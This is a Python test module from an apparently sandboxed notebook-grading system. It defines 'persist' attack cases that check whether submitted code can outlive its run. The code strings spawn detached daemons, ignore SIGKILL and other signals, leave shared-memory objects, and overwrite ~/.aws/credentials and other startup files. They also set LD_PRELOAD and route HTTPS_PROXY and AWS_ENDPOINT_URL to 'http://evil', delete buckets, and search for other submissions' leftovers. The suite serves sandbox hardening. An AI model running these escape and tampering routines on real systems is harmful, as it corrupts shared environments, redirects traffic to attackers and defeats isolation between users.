"""Attacks that want to live on: after the cell, the notebook, the submission, the run."""

from tests.grading.attacks.attack import Attack

DAEMONS = """
import ctypes, multiprocessing, os, subprocess, sys

later = f"import time; time.sleep(30); open('/tmp/{places['mark']}', 'w')"

def fork_by(name, *arguments):
    if call(name, *arguments) == 0:  # we are the child
        exec(later)
    raise PermissionError(name)

def double_fork():
    if not os.fork():
        os.setsid()
        if not os.fork():
            exec(later)

ways = {
    "program": lambda: subprocess.Popen([sys.executable, "-c", later], start_new_session=True),
    "shell": lambda: subprocess.run("nohup sleep 1000 &", shell=True, check=True),
    "system": lambda: os.system("sleep 1000 &") and 1 / 0,
    "double fork": double_fork,
    "vfork": lambda: fork_by("vfork"),
    "clone": lambda: fork_by("clone", 17, 0, 0, 0, 0),
    "clone, parent's child": lambda: fork_by("clone", 0x8000 | 17, 0, 0, 0, 0),
    "clone3": lambda: fork_by("clone3", 0, 88),
    "spawn": lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", later], {}),
    "multiprocessing": lambda: multiprocessing.get_context("fork").Process(target=print).start(),
    "fork server": lambda: multiprocessing.get_context("forkserver").Process().start(),
    "exec": lambda: os.execv(sys.executable, [sys.executable, "-c", later]),
    "new session": os.setsid,
    "terminal": os.openpty,
    "job of the system": lambda: subprocess.run(["at", "now"], input="x", check=True),
}
for name, way in ways.items():
    attempt(name, way)
"""

LIVING_ON = """
import atexit, ctypes, os, signal, threading, time

libc = ctypes.CDLL(None, use_errno=True)
alive = []

def live_on():
    while True:
        time.sleep(0.05)
        try:
            with open("heart", "a") as file:
                file.write("x")
        except BaseException:
            pass

threads = [threading.Thread(target=live_on) for _ in range(8)]
attempt("threads that stay", lambda: [thread.start() for thread in threads] and len(threads))
attempt("at exit", lambda: atexit.register(live_on) and None)
attempt("dying is off", lambda: libc.prctl(1, 0, 0, 0, 0))
attempt("no signal ends us", lambda: len([signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]))
attempt("SIGKILL too", lambda: signal.signal(signal.SIGKILL, signal.SIG_IGN))
attempt("another group", lambda: os.setpgid(0, 0))
attempt("child reaper", lambda: libc.prctl(36, 1, 0, 0, 0))
"""

SHARED_MEMORY = """
import ctypes, mmap, os
from multiprocessing import shared_memory

libc = ctypes.CDLL(None, use_errno=True)

def use(name, *arguments):
    result = getattr(libc, name)(*arguments)
    return result if result > 0 else os.strerror(ctypes.get_errno())

name = f"/{places['mark']}".encode()
attempt("posix", lambda: shared_memory.SharedMemory(places["mark"], create=True, size=4096).name)
attempt("shm_open", lambda: use("shm_open", name, 0o102, 0o666))
attempt("system v", lambda: use("shmget", 0x1234, 4096, 0o1666))
attempt("semaphores", lambda: use("semget", 0x1234, 1, 0o1666))
attempt("messages", lambda: use("msgget", 0x1234, 0o1666))
attempt("message queue", lambda: use("mq_open", name, 0o102, 0o666, None))
attempt("named semaphore", lambda: use("sem_open", name, 0o100, 0o666, 1))
attempt("memory file", lambda: os.memfd_create("x"))
attempt("keyring", lambda: call("add_key", b"user", b"mark", b"x", 1, -4))
large = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000
attempt("large pages", lambda: mmap.mmap(-1, 2 << 20, flags=large))
"""

POISON = """
import os, pathlib, sys

mark = places["mark"]

def poison():
    # Everything in our own folder that libraries look at when they start.
    for name in (".cache/matplotlib/fontlist-v390.json", "fontlist-v390.json",
                 ".config/pip/pip.conf", ".local/share/proj/proj.db", "proj.db", ".aws/config",
                 ".aws/credentials", ".python_history", ".netrc", ".pdbrc", "gdalrc",
                 ".gdal/gdalrc", "pyvenv.cfg",
                 "matplotlib/matplotlibrc", "stylelib/x.mplstyle", ".condarc", ".jupyter/x.json"):
        path = pathlib.Path(os.environ["HOME"], name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(mark)
    return "done"

def caches():
    found = 0
    for module in list(sys.modules.values())[:400]:
        cached = getattr(module, "__cached__", None)
        if cached and places["root"] in cached:
            try:
                pathlib.Path(cached).write_bytes(mark.encode())
                found += 1
            except OSError:
                continue
    return found

attempt("caches in our home", poison)
attempt("compiled modules", caches)
attempt("variables for the next", lambda: os.environ.update(
    PYTHONSTARTUP="x.py", PYTHONPATH=os.getcwd(), LD_PRELOAD="x.so", GDAL_DATA=mark, PROJ_DATA=mark,
    AWS_ENDPOINT_URL="http://evil", HTTPS_PROXY="http://evil", MPLCONFIGDIR=os.getcwd()))
attempt("settings of the process", lambda: (os.chdir("/"), sys.path.insert(0, "/tmp")))
"""

LEAVE_OBJECTS = """
from utils import get_file_system

def leave():
    fs = get_file_system()
    fs.pipe_file(f"my-bucket/{places['mark']}.txt", places["mark"].encode())
    fs.pipe_file("my-bucket/data-preprocessed/x.npy", places["mark"].encode())
    return len(fs.ls("my-bucket"))

attempt("objects for whoever comes next", leave)
attempt("a bucket of our own", lambda: get_file_system().mkdir("bucket-of-ours"))
attempt("writing to the public bucket", lambda: get_file_system().pipe_file(
    "projet-hackathon-ntts-2025/data-preprocessed/x.tif", b"x"))
attempt("no bucket at all", lambda: get_file_system().rm("my-bucket", recursive=True))
"""

LOOK_FOR_TRACES = """
import gc, glob, os, sys
from utils import get_file_system

common = places["mark"][:16]
mine = places["mark"]

def files():
    found = [name for root in (".", "/tmp", "/dev/shm", "..") for name in glob.glob(root + "/*")]
    return [name for name in found if common in name and mine not in name]

def objects():
    return [name for name in get_file_system().find("my-bucket")]

def memory():
    gc.unfreeze()
    texts = [value for thing in gc.get_objects() if type(thing) is dict
             for value in list(thing.values()) if type(value) is str]
    return len([text for text in texts if common in text and mine not in text and text != common])

attempt("files of those before", files)
attempt("objects of those before", objects)
attempt("memory of those before", memory)
attempt("variables", lambda: [n for n, v in os.environ.items() if common in v])
attempt("folder", lambda: os.listdir("."))
"""

ATTACKS = [
    Attack(
        "persist",
        "daemons",
        "Start processes that outlive us.",
        {3: DAEMONS},
        says=("PermissionError", "ATTEMPTED terminal"),
    ),
    Attack(
        "persist",
        "threads that stay",
        "Threads, exit handlers and ignored signals keep the process alive.",
        {4: LIVING_ON},
        honest=(3, 6),
        says=("stay\ngot: 8", "refused"),
    ),
    Attack(
        "persist",
        "shared memory",
        "Leave shared memory, semaphores, queues, keys.",
        {3: SHARED_MEMORY},
        says=("PermissionError",),
    ),
    Attack(
        "persist",
        "poisoned caches",
        "Caches and settings that libraries read in the next notebook, or the next submission.",
        {3: POISON},
        honest=(6,),
        says=("our home\ngot: 'done'", "modules\ngot: 0"),
    ),
    Attack(
        "persist",
        "left objects",
        "Leave objects in the buckets for the next submission, or none at all.",
        {3: LEAVE_OBJECTS},
        says=("comes next\ngot:",),
    ),
    Attack(
        "persist",
        "traces of others",
        "Find what the submissions before left.",
        {3: LOOK_FOR_TRACES},
        says=(
            *("files of those before\ngot: []", "objects of those before\ngot: []"),
            *("memory of those before\ngot: 0", "variables\ngot: []"),
        ),
    ),
]
